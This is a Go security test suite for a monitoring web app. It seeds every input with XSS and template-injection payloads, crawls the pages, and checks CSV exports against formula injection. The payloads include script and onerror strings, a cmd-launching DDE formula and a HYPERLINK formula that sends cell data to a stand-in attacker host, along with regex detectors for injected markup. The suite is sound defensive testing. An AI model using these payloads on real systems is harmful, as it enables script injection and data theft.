package app_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// attack is a text that would run, if a page, an attribute, a script or a template
// took it for more than text.
const attack = `"'><script>alert(1)</script><img src=x onerror=alert(1)> javascript:alert(1) {{.}} {{7777*191}} ${7777*191} #{7777*191} <%= 7777*191 %> %s%n`

// product is what a template engine would make of a part of it.
const product = "1485407"

// attackedTarget answers 500 with hostile bytes wherever a target can put some.
func attackedTarget(t *testing.T) *httptest.Server {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		for _, name := range []string{"Server", "Via", "X-Powered-By", "Retry-After", "Location", "Content-Type"} {
			w.Header().Set(name, attack)
		}
		w.WriteHeader(http.StatusInternalServerError)
		_, _ = io.WriteString(w, attack+"\x00\x1b[31m\u202e\xff"+strings.Repeat(attack, 100))
	}))
	t.Cleanup(s.Close)
	return s
}

// infest puts the attack into every text that somebody may write.
func infest(t *testing.T, c client, target string) {
	t.Helper()
	name := attack
	address := target + "/" + url.PathEscape(attack)
	channel := c.must(http.StatusCreated, http.MethodPost, "/api/v1/channels", map[string]any{
		"name": name, "type": "webhook", "is_default": true, "settings": map[string]any{"url": "http://127.0.0.1:1/" + url.PathEscape(attack), "headers": map[string]string{"X-Team": attack}},
	}).object(t)
	c.must(http.StatusCreated, http.MethodPost, "/api/v1/channels", map[string]any{
		"name": name, "type": "email", "settings": map[string]any{"to": []string{"ops@example.com"}, "smtp": map[string]any{"host": "127.0.0.1", "port": 1, "tls": "none"}},
	})
	monitor := c.must(http.StatusCreated, http.MethodPost, "/api/v1/monitors", map[string]any{
		"name": name, "type": "http", "group": strings.ReplaceAll(attack, "/", "|"), "external_key": name, "interval": "5s", "failures_before_down": 1, "channel_ids": []any{channel["id"]},
		"tags": map[string]string{"<script>alert(1)<|script>": `"'><img src=x onerror=alert(1)> {{7777*191}}`},
		"http": map[string]any{"url": address, "headers": map[string]string{"X-Team": attack}, "keyword": attack, "body": attack, "method": "POST"},
	}).object(t)
	incident := c.must(http.StatusCreated, http.MethodPost, "/api/v1/incidents", map[string]any{"title": name, "message": attack + "\n" + attack, "monitor_ids": []any{monitor["id"]}}).object(t)
	c.must(http.StatusCreated, http.MethodPost, fmt.Sprintf("/api/v1/incidents/%.0f/updates", incident["id"]), map[string]any{"message": attack})
	c.must(http.StatusCreated, http.MethodPost, "/api/v1/users", map[string]any{"email": "vera@example.com", "role": "viewer", "name": name, "password": ownerPassword})
	c.must(http.StatusCreated, http.MethodPost, "/api/v1/tokens", map[string]any{"name": name[:100]})
	c.must(http.StatusOK, http.MethodPatch, "/api/v1/me", map[string]any{"name": name})
	eventually(t, "an incident with what the target answered", func() bool {
		return strings.Contains(string(c.must(http.StatusOK, http.MethodGet, "/api/v1/incidents?open=true", nil).raw), `"error_kind":"status"`)
	})
}

// TestAttackedPages goes through every page that a link leads to, of an installation
// where everything that can be written holds an attack.
func TestAttackedPages(t *testing.T) {
	t.Parallel()
	p := serve(t, t.TempDir())
	c := p.setup()
	infest(t, c, attackedTarget(t).URL)
	owner := p.visit("owner@example.com", ownerPassword)
	require.Equal(t, http.StatusOK, owner.get("/settings/security", "User-Agent", attack).status)
	found := crawl(t, owner, []string{
		"/", "/api/docs", "/login?next=" + url.QueryEscape("/"+attack), "/monitors?q=" + url.QueryEscape(attack), "/monitors?tag=" + url.QueryEscape(attack), "/monitors?sort=" + url.QueryEscape(attack) + "&dir=" + url.QueryEscape(attack),
		"/monitors/new?type=" + url.QueryEscape(attack), "/channels/new?type=" + url.QueryEscape(attack), "/settings/audit?object=" + url.QueryEscape(attack) + "&cursor=" + url.QueryEscape(attack),
		"/" + url.PathEscape(attack), "/monitors/" + url.PathEscape(attack), "/invite/" + url.PathEscape(attack), "/reset/" + url.PathEscape(attack), "/settings/security/totp",
	})
	for _, page := range []string{"/monitors", "/monitors/1", "/monitors/1/edit", "/monitors/new", "/incidents", "/incidents/1", "/incidents/2", "/channels", "/channels/1/edit", "/channels/1/log", "/channels/new", "/settings/profile", "/settings/security", "/settings/audit"} {
		require.Contains(t, found, page, "the way there was found")
	}
	stranger := visitor{t: t, base: p.base}
	crawl(t, stranger, []string{"/", "/login", "/forgot", "/setup", "/api/docs", "/" + url.PathEscape(attack), "/login?next=" + url.QueryEscape(attack)})
	for _, path := range []string{"/api/v1/monitors", "/api/v1/incidents/1", "/api/v1/incidents/2", "/api/v1/channels", "/api/v1/audit-log", "/api/openapi.json", "/api/v1/monitors/1/results"} {
		a := c.must(http.StatusOK, http.MethodGet, path, nil)
		require.Regexp(t, `^application/(problem\+|openapi\+)?json`, a.header.Get("Content-Type"), path)
		require.Equal(t, "nosniff", a.header.Get("X-Content-Type-Options"), path)
		require.NotContains(t, string(a.raw), product, path)
	}
}

var (
	links      = regexp.MustCompile(`(?i)\s(?:href|src|action|formaction|poster|data|cite|hx-get|hx-post|hx-put|hx-delete|sse-connect)="([^"]*)"`)
	quoted     = regexp.MustCompile(`"[^"]*"`)
	handlers   = regexp.MustCompile(`(?i)<[a-z][^>]*\s(?:on[a-z]+|style|srcdoc)\s*=`)
	strayTag   = regexp.MustCompile(`(?i)<(?:script(?:\s[^>]*)?>[^<]|script>|img\s+src=x|iframe|object|embed|base|meta\s+http-equiv)`)
	safeTarget = regexp.MustCompile(`^(?:/|#|\?|https?://|otpauth://|mailto:|data:image/|data:,$)`)
)

// crawl asks for the pages and for all that they lead to, and gives the paths that
// were there.
func crawl(t *testing.T, v visitor, from []string) map[string]bool {
	t.Helper()
	seen, found := map[string]bool{}, map[string]bool{}
	for todo := from; len(todo) > 0; todo = todo[1:] {
		path, _, _ := strings.Cut(todo[0], "#")
		if seen[path] || len(seen) > 300 {
			continue
		}
		seen[path] = true
		a := v.get(path)
		require.Less(t, a.status, http.StatusInternalServerError, path)
		require.Equal(t, "nosniff", a.header.Get("X-Content-Type-Options"), path)
		if !strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
			continue
		}
		if a.status == http.StatusOK {
			plain, _, _ := strings.Cut(path, "?")
			found[plain] = true
		}
		requireHarmless(t, path, a)
		for _, link := range links.FindAllStringSubmatch(string(a.raw), -1) {
			to := html.UnescapeString(link[1])
			if strings.HasPrefix(to, "/") && !strings.HasPrefix(to, "/static/") && !strings.HasSuffix(to, "/events") {
				todo = append(todo, to)
			}
		}
	}
	return found
}

// requireHarmless: nothing on the page runs or leads out that we did not write.
func requireHarmless(t *testing.T, path string, a answer) {
	t.Helper()
	page := string(a.raw)
	require.Contains(t, a.header.Get("Content-Security-Policy"), "default-src 'none'", path)
	require.NotContains(t, a.header.Get("Content-Security-Policy"), "unsafe", path)
	require.NotContains(t, page, "<script>alert", path)
	require.NotContains(t, page, product, path)
	require.NotContains(t, page, "ZgotmplZ", path)
	require.NotRegexp(t, strayTag, page, path)
	require.NotRegexp(t, handlers, quoted.ReplaceAllString(page, `""`), path)
	for _, link := range links.FindAllStringSubmatch(page, -1) {
		to := strings.TrimSpace(html.UnescapeString(link[1]))
		require.True(t, to == "" || safeTarget.MatchString(to), "%s leads to %q", path, to)
		require.NotRegexp(t, `^(//|/\\)`, to, path)
	}
	for _, never := range []string{"\x00", "\x1b", "\u202e", "\u2028"} {
		require.NotContains(t, page, never, path)
	}
}

// TestAttackedCSV reads the audit log as a file, of people whose names are formulas.
func TestAttackedCSV(t *testing.T) {
	t.Parallel()
	p := serve(t, t.TempDir())
	c := p.setup()
	owner := p.visit("owner@example.com", ownerPassword)
	for _, name := range []string{
		"=1+1", "+1", "-1+1", "@SUM(A1)", `"=1+1`, `'=1+1`, `" =1`, "＝1+1", `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example?"&A1,"x")`, "a;=1+1", `a;"=1`, attack,
	} {
		c.must(http.StatusOK, http.MethodPatch, "/api/v1/me", map[string]any{"name": name})
		c.must(http.StatusCreated, http.MethodPost, "/api/v1/tokens", map[string]any{"name": name[:min(len(name), 100)]})
		a := owner.get("/settings/audit.csv")
		require.Equal(t, http.StatusOK, a.status)
		require.Equal(t, "text/csv; charset=utf-8", a.header.Get("Content-Type"))
		require.Equal(t, "nosniff", a.header.Get("X-Content-Type-Options"))
		require.Equal(t, `attachment; filename="monitor-audit.csv"`, a.header.Get("Content-Disposition"))
		rows, err := csv.NewReader(bytes.NewReader(a.raw)).ReadAll()
		require.NoError(t, err)
		require.Greater(t, len(rows), 2)
		for _, row := range rows {
			require.Len(t, row, len(rows[0]))
			for _, cell := range row {
				for part := range strings.SplitSeq(cell, ";") {
					require.NotRegexp(t, "^[\\s\"\u00a0\u3000]*[=+@＝＋－＠-]", part, name)
				}
			}
		}
		require.NotContains(t, string(a.raw), product)
	}
}
